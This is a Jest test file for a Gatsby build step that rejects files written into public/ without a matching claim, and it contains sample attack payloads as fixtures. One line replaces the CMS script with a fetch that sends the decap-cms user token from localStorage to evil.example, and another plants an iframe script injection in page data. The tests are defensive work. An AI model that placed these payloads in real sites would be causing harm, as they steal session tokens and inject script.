/**
 * @jest-environment node
 *
 * Hostile class "public owners": whatever gets into public/ besides what
 * the build's writers made, or over it. The build's last step
 * (features/hosting/publicOwners.node.ts, run by gatsby/onPostBuild.ts) holds public/ to
 * the writers' claims: a path two writers claim (a file copied from
 * static/ over a page's data), a file of the CMS changed after it was
 * written (a replaced setup script), and a file no writer made (a script
 * dropped into public/) each fail the build naming the file; an earlier
 * build's file that this one did not write (a file deleted from static/,
 * an old bundle) is removed, so no release keeps it. The check of static/
 * before the build (__tests__/hostile/files.test.ts) refuses these files
 * first; this is the net under it, for any writer.
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { BundleClaims, claim, claimExact, settleOwnership, startClaims, writeFilesRecord } from '../../features/hosting/publicOwners.node';
import { parseFilesRecord } from '../../features/hosting/publicOwners';

let dir: string;
beforeEach(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-owners-'));
});
afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

const write = (relative: string, text: string) => {
  fs.mkdirSync(path.dirname(path.join(dir, relative)), { recursive: true });
  fs.writeFileSync(path.join(dir, relative), text);
};
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** A small build: two pages with their data, the CMS's script, a bundle, an upload; every writer's claims. */
function build(): void {
  startClaims(dir);
  for (const [file, text] of Object.entries({
    'blog/a/index.html': '<p>a</p>',
    'page-data/blog/a/page-data.json': '{"result":{}}',
    'app-0123456789abcdef0123.js': 'app()',
    'media/photo.png': 'png',
    'admin/admin.js': 'cms()',
    'robots.txt': 'User-agent: *',
  }))
    write(file, text);
  claim('pages', ['/blog/a/index.html', 'page-data/blog/a/page-data.json']);
  claim('bundles', ['app-0123456789abcdef0123.js']);
  claim('static', ['media/photo.png']);
  claimExact('cms', new Map([['/admin/admin.js', sha256('cms()')]]));
  claim('hosting', ['/robots.txt']);
}

const settle = () => settleOwnership(dir, ['/_headers', '/_files.json']);

describe('public/ held to its writers', () => {
  it('records every file under its writer, the files still to be written included', () => {
    build();
    expect(settle()).toEqual({
      record: {
        bundles: ['app-0123456789abcdef0123.js'],
        cms: ['admin/admin.js'],
        hosting: ['_files.json', '_headers', 'robots.txt'],
        pages: ['blog/a/index.html', 'page-data/blog/a/page-data.json'],
        static: ['media/photo.png'],
      },
      removed: [],
    });
  });

  it("refuses a static file at a page's data, naming it and both writers", () => {
    build();
    // As Gatsby copies static/ after the page data: the last writer would win.
    claim('static', ['page-data/blog/a/page-data.json']);
    write('page-data/blog/a/page-data.json', '{"result":{"data":{"post":{"html":"<iframe srcdoc=\\"<script>alert(1)</script>\\">"}}}}');
    expect(settle).toThrow(
      "public/page-data/blog/a/page-data.json is written by Gatsby's pages and page data and by the site's own images from static/ (features/images/staticImages.node.ts); one path has one writer: rename or remove the one that is content",
    );
  });

  it("refuses the CMS's script replaced after it was written, even by a writer claiming nothing", () => {
    build();
    write('admin/admin.js', "fetch('https://evil.example/?t=' + localStorage.getItem('decap-cms-user'))");
    expect(settle).toThrow('public/admin/admin.js is not the file the CMS at /admin/ (features/cms/admin.node.ts) wrote: something wrote over it later in the build');
  });

  it('refuses a file no writer made, naming it', () => {
    build();
    write('x/anything.js', "document.title = 'pwned'");
    write('.hidden-note.txt', 'note');
    expect(settle).toThrow(
      [
        "public/ is not what this build's writers made (features/hosting/publicOwners.ts):",
        '  - public/.hidden-note.txt is in public/, but no writer of this build or the one before made it: remove it, or give it a writer',
        '  - public/x/anything.js is in public/, but no writer of this build or the one before made it: remove it, or give it a writer',
      ].join('\n'),
    );
  });

  it("removes an earlier build's bundle that this one did not write, and the compressed copies a server left, so no release keeps them", () => {
    build();
    const first = settle();
    write('_headers', '/*');
    writeFilesRecord(dir, first.record);
    // Next build: webpack names its bundle anew; nginx's copies from serving the last one are still there.
    build();
    write('app-9999999999999999999a.js', 'app2()');
    write('app-9999999999999999999a.js.br', 'br');
    write('blog/a/index.html.gz', 'gz');
    claim('bundles', ['app-9999999999999999999a.js']);
    const bundles = settleOwnership(dir, ['/_headers', '/_files.json'], { ...first.record, bundles: ['app-0123456789abcdef0123.js'] });
    expect(bundles.removed).toEqual([]);
    // Both bundles are claimed by this build (build() wrote the old name again); the copies are gone either way.
    expect(fs.existsSync(path.join(dir, 'app-9999999999999999999a.js.br'))).toBe(false);
    expect(fs.existsSync(path.join(dir, 'blog/a/index.html.gz'))).toBe(false);
    startClaims(dir);
    claim('pages', ['/blog/a/index.html', 'page-data/blog/a/page-data.json']);
    claim('bundles', ['app-9999999999999999999a.js']);
    claim('static', ['media/photo.png']);
    claimExact('cms', new Map([['/admin/admin.js', sha256('cms()')]]));
    claim('hosting', ['/robots.txt']);
    const third = settle();
    expect(third.removed).toEqual(['app-0123456789abcdef0123.js']);
    expect(fs.existsSync(path.join(dir, 'app-0123456789abcdef0123.js'))).toBe(false);
  });

  it('removes a file deleted from static/ since the build before', () => {
    build();
    write('media/old.png', 'old');
    claim('static', ['media/old.png']);
    const first = settle();
    write('_headers', '/*');
    writeFilesRecord(dir, first.record);
    expect(parseFilesRecord(fs.readFileSync(path.join(dir, '_files.json'), 'utf8')).static).toEqual(['media/old.png', 'media/photo.png']);
    // Gatsby's copy of static/ adds and replaces, never deletes: media/old.png stays in public/.
    build();
    const second = settle();
    expect(second.removed).toEqual(['media/old.png']);
    expect(fs.existsSync(path.join(dir, 'media', 'old.png'))).toBe(false);
    expect(second.record.static).toEqual(['media/photo.png']);
  });
});

describe("webpack's files", () => {
  it("are claimed as webpack's stats list them, their source maps and licences included", () => {
    startClaims(dir);
    let done: ((stats: { toJson(): unknown }) => void) | undefined;
    new BundleClaims().apply({ hooks: { done: { tap: (_name: string, callback: (stats: never) => void) => (done = callback as typeof done) } } });
    done?.({
      toJson: () => ({ assets: [{ name: 'app-1.js', info: { related: { sourceMap: 'app-1.js.map', license: ['app-1.js.LICENSE.txt'] } } }, { name: 'styles.css' }] }),
    });
    for (const file of ['app-1.js', 'app-1.js.map', 'app-1.js.LICENSE.txt', 'styles.css', 'webpack.stats.json', 'chunk-map.json']) write(file, 'x');
    expect(settleOwnership(dir, []).record).toEqual({ bundles: ['app-1.js', 'app-1.js.LICENSE.txt', 'app-1.js.map', 'chunk-map.json', 'styles.css', 'webpack.stats.json'] });
  });
});
